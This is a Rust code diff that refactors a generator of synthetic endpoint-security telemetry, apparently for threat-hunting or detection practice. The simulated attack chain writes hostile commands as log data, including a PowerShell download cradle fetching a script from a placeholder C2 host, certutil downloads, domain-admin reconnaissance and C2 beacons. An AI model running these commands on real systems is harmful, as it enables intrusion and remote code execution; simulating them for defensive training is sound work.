@@ -20,23 +20,18 @@ pub fn generate(snap: &Snapshot, t: &mut Tables) {
     network_info(snap, t);
     let mut ids = Ids::default();
     activity(snap, t, &mut ids);
-    logons(snap, t, &mut ids);
+    logons(snap, t);
     attack(snap, t, &mut ids);
     lolbins(snap, t, &mut ids);
 }
 
-/// Report ids and process ids, unique within the tenant's tables.
+/// Process ids, unique within the tenant's device tables.
 #[derive(Default)]
 struct Ids {
-    report: i64,
     pid: i64,
 }
 
 impl Ids {
-    fn report(&mut self) -> i64 {
-        self.report += 1;
-        self.report
-    }
     fn pid(&mut self, rng: &mut StdRng) -> i64 {
         self.pid += 1;
         1000 + (self.pid * 4 + rng.random_range(0..4)) % 60_000
@@ -628,12 +623,12 @@ fn processes(
     (parent, child)
 }
 
-fn process_event(t: &mut Tables, ids: &mut Ids, d: &Device, parent: &Proc, child: &Proc) {
+fn process_event(t: &mut Tables, d: &Device, parent: &Proc, child: &Proc) {
     let mut row: Row = vec![
         ("Timestamp", dt(child.created)),
         ("ActionType", s("ProcessCreated")),
     ];
-    device_cells(d, ids.report(), &mut row);
+    device_cells(d, t.report_id(), &mut row);
     child.created(&mut row);
     parent.initiating(&mut row);
     t.push("DeviceProcessEvents", row);
@@ -641,7 +636,6 @@ fn process_event(t: &mut Tables, ids: &mut Ids, d: &Device, parent: &Proc, child
 
 fn connection(
     t: &mut Tables,
-    ids: &mut Ids,
     rng: &mut StdRng,
     d: &Device,
     p: &Proc,
@@ -661,14 +655,13 @@ fn connection(
         ("LocalIPType", s("Private")),
         ("RemoteIPType", s("Public")),
     ];
-    device_cells(d, ids.report(), &mut row);
+    device_cells(d, t.report_id(), &mut row);
     p.initiating(&mut row);
     t.push("DeviceNetworkEvents", row);
 }
 
 fn file_event(
     t: &mut Tables,
-    ids: &mut Ids,
     d: &Device,
     p: &Proc,
     action: &str,
@@ -693,12 +686,12 @@ fn file_event(
             row.push(("FileOriginIP", s(&Snapshot::resolve(host))));
         }
     }
-    device_cells(d, ids.report(), &mut row);
+    device_cells(d, t.report_id(), &mut row);
     p.initiating(&mut row);
     t.push("DeviceFileEvents", row);
 }
 
-fn image_load(t: &mut Tables, ids: &mut Ids, d: &Device, p: &Proc, dll: &str, when: i64) {
+fn image_load(t: &mut Tables, d: &Device, p: &Proc, dll: &str, when: i64) {
     let path = format!(r"C:\Windows\System32\{dll}");
     let h = hashes(&path);
     let mut row: Row = vec![
@@ -711,21 +704,12 @@ fn image_load(t: &mut Tables, ids: &mut Ids, d: &Device, p: &Proc, dll: &str, wh
         ("MD5", s(&h.md5)),
         ("FileSize", long(h.size)),
     ];
-    device_cells(d, ids.report(), &mut row);
+    device_cells(d, t.report_id(), &mut row);
     p.initiating(&mut row);
     t.push("DeviceImageLoadEvents", row);
 }
 
-fn registry(
-    t: &mut Tables,
-    ids: &mut Ids,
-    d: &Device,
-    p: &Proc,
-    key: &str,
-    name: &str,
-    data: &str,
-    when: i64,
-) {
+fn registry(t: &mut Tables, d: &Device, p: &Proc, key: &str, name: &str, data: &str, when: i64) {
     let mut row: Row = vec![
         ("Timestamp", dt(when)),
         ("ActionType", s("RegistryValueSet")),
@@ -734,23 +718,15 @@ fn registry(
         ("RegistryValueName", s(name)),
         ("RegistryValueData", s(data)),
     ];
-    device_cells(d, ids.report(), &mut row);
+    device_cells(d, t.report_id(), &mut row);
     p.initiating(&mut row);
     t.push("DeviceRegistryEvents", row);
 }
 
-fn device_event(
-    t: &mut Tables,
-    ids: &mut Ids,
-    d: &Device,
-    p: &Proc,
-    action: &str,
-    extra: Row,
-    when: i64,
-) {
+fn device_event(t: &mut Tables, d: &Device, p: &Proc, action: &str, extra: Row, when: i64) {
     let mut row: Row = vec![("Timestamp", dt(when)), ("ActionType", s(action))];
     row.extend(extra);
-    device_cells(d, ids.report(), &mut row);
+    device_cells(d, t.report_id(), &mut row);
     p.initiating(&mut row);
     t.push("DeviceEvents", row);
 }
@@ -799,7 +775,7 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
             };
             let when = rng.random_range(window_start..window_end.max(window_start + 1));
             let (parent, child) = processes(snap, &mut rng, ids, l, &account, when);
-            process_event(t, ids, d, &parent, &child);
+            process_event(t, d, &parent, &child);
             for host in l.hosts {
                 let host = fill(host, snap, &account);
                 let port = if host.contains("archive.ubuntu.com") {
@@ -808,7 +784,7 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                     443
                 };
                 let at = when + rng.random_range(TICKS_PER_SECOND..TICKS_PER_MINUTE);
-                connection(t, ids, &mut rng, d, &child, &host, port, at);
+                connection(t, &mut rng, d, &child, &host, port, at);
             }
             if let Some(w) = l.writes {
                 let path = fill(w, snap, &account);
@@ -822,7 +798,6 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                 };
                 file_event(
                     t,
-                    ids,
                     d,
                     &child,
                     action,
@@ -834,13 +809,12 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
             if d.windows() && rng.random_bool(0.35) {
                 for _ in 0..2 {
                     let dll = *pick(&mut rng, DLLS);
-                    image_load(t, ids, d, &child, dll, when + TICKS_PER_SECOND);
+                    image_load(t, d, &child, dll, when + TICKS_PER_SECOND);
                 }
             }
             if d.windows() && l.system && rng.random_bool(0.2) {
                 registry(
                     t,
-                    ids,
                     d,
                     &child,
                     r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update",
@@ -852,7 +826,6 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
             if child.file.eq_ignore_ascii_case("powershell.exe") {
                 device_event(
                     t,
-                    ids,
                     d,
                     &child,
                     "PowerShellCommand",
@@ -868,7 +841,6 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
             {
                 device_event(
                     t,
-                    ids,
                     d,
                     &child,
                     "BrowserLaunchedToOpenUrl",
@@ -904,7 +876,6 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                 };
                 device_event(
                     t,
-                    ids,
                     d,
                     &scanner,
                     "AntivirusScanCompleted",
@@ -920,7 +891,7 @@ fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
 }
 
 /// Interactive, network and service logons, with a few typos (failed logons).
-fn logons(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
+fn logons(snap: &Snapshot, t: &mut Tables) {
     let mut rng = snap.rng("DeviceLogonEvents");
     let clients: Vec<&Device> = snap.devices.iter().filter(|d| !d.server()).collect();
     for (i, d) in snap.devices.iter().enumerate() {
@@ -1011,7 +982,7 @@ fn logons(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                         ("RemotePort", int(rng.random_range(49152..65535))),
                     ]);
                 }
-                device_cells(d, ids.report(), &mut row);
+                device_cells(d, t.report_id(), &mut row);
                 logonui.initiating(&mut row);
                 t.push("DeviceLogonEvents", row);
             }
@@ -1032,7 +1003,7 @@ fn logons(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
                 ("IsLocalAdmin", boolean(true)),
                 ("LogonId", long(999)),
             ];
-            device_cells(d, ids.report(), &mut row);
+            device_cells(d, t.report_id(), &mut row);
             logonui.initiating(&mut row);
             t.push("DeviceLogonEvents", row);
         }
@@ -1116,7 +1087,6 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     chrome.cmd = r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#.into();
     file_event(
         t,
-        ids,
         d,
         &chrome,
         "FileCreated",
@@ -1124,7 +1094,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         Some(PHISH_URL),
         t0 - TICKS_PER_MINUTE,
     );
-    process_event(t, ids, d, &explorer, &word);
+    process_event(t, d, &explorer, &word);
     // The macro starts PowerShell with an encoded download cradle.
     let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{C2_HOST}/a.ps1')");
     let ps = child(
@@ -1139,10 +1109,9 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         t0 + 40 * TICKS_PER_SECOND,
         true,
     );
-    process_event(t, ids, d, &word, &ps);
+    process_event(t, d, &word, &ps);
     device_event(
         t,
-        ids,
         d,
         &word,
         "AsrOfficeChildProcessAudited",
@@ -1154,10 +1123,9 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         ],
         ps.created,
     );
-    image_load(t, ids, d, &ps, "amsi.dll", ps.created + TICKS_PER_SECOND);
+    image_load(t, d, &ps, "amsi.dll", ps.created + TICKS_PER_SECOND);
     connection(
         t,
-        ids,
         &mut rng,
         d,
         &ps,
@@ -1167,7 +1135,6 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     );
     device_event(
         t,
-        ids,
         d,
         &ps,
         "PowerShellCommand",
@@ -1189,10 +1156,9 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         ps.created + 20 * TICKS_PER_SECOND,
         true,
     );
-    process_event(t, ids, d, &ps, &certutil);
+    process_event(t, d, &ps, &certutil);
     connection(
         t,
-        ids,
         &mut rng,
         d,
         &certutil,
@@ -1202,7 +1168,6 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     );
     file_event(
         t,
-        ids,
         d,
         &certutil,
         "FileCreated",
@@ -1220,7 +1185,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         certutil.created + 30 * TICKS_PER_SECOND,
         false,
     );
-    process_event(t, ids, d, &ps, &payload);
+    process_event(t, d, &ps, &payload);
     let dump = child(
         ids,
         &mut rng,
@@ -1230,10 +1195,9 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         payload.created + 2 * TICKS_PER_MINUTE,
         true,
     );
-    process_event(t, ids, d, &payload, &dump);
+    process_event(t, d, &payload, &dump);
     file_event(
         t,
-        ids,
         d,
         &dump,
         "FileCreated",
@@ -1243,7 +1207,6 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     );
     device_event(
         t,
-        ids,
         d,
         &dump,
         "AntivirusDetection",
@@ -1268,7 +1231,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         payload.created + 4 * TICKS_PER_MINUTE,
         true,
     );
-    process_event(t, ids, d, &payload, &recon);
+    process_event(t, d, &payload, &recon);
     for (k, (file, cmd)) in [
         ("whoami.exe", "whoami /all"),
         ("net.exe", r#"net group "Domain Admins" /domain"#),
@@ -1286,7 +1249,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
             recon.created + (k as i64 + 1) * TICKS_PER_SECOND,
             true,
         );
-        process_event(t, ids, d, &recon, &p);
+        process_event(t, d, &recon, &p);
     }
     let schtasks = child(
         ids,
@@ -1297,10 +1260,9 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         payload.created + 5 * TICKS_PER_MINUTE,
         true,
     );
-    process_event(t, ids, d, &payload, &schtasks);
+    process_event(t, d, &payload, &schtasks);
     registry(
         t,
-        ids,
         d,
         &payload,
         &format!(
@@ -1314,7 +1276,7 @@ fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
     // Hourly beacons since the compromise.
     let mut at = payload.created + 10 * TICKS_PER_MINUTE;
     while at < snap.anchor - TICKS_PER_MINUTE {
-        connection(t, ids, &mut rng, d, &payload, C2_HOST, 443, at);
+        connection(t, &mut rng, d, &payload, C2_HOST, 443, at);
         at += TICKS_PER_HOUR + rng.random_range(0..5 * TICKS_PER_MINUTE);
     }
 }
@@ -1359,16 +1321,7 @@ fn lolbins(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
         let when = base + k as i64 * 37 * TICKS_PER_MINUTE;
         let (parent_proc, mut p) = processes(snap, &mut rng, ids, &l, &user, when);
         p.cmd = cmd.replace("{c2}", C2_HOST);
-        process_event(t, ids, d, &parent_proc, &p);
-        connection(
-            t,
-            ids,
-            &mut rng,
-            d,
-            &p,
-            C2_HOST,
-            80,
-            when + 2 * TICKS_PER_SECOND,
-        );
+        process_event(t, d, &parent_proc, &p);
+        connection(t, &mut rng, d, &p, C2_HOST, 80, when + 2 * TICKS_PER_SECOND);
     }
 }
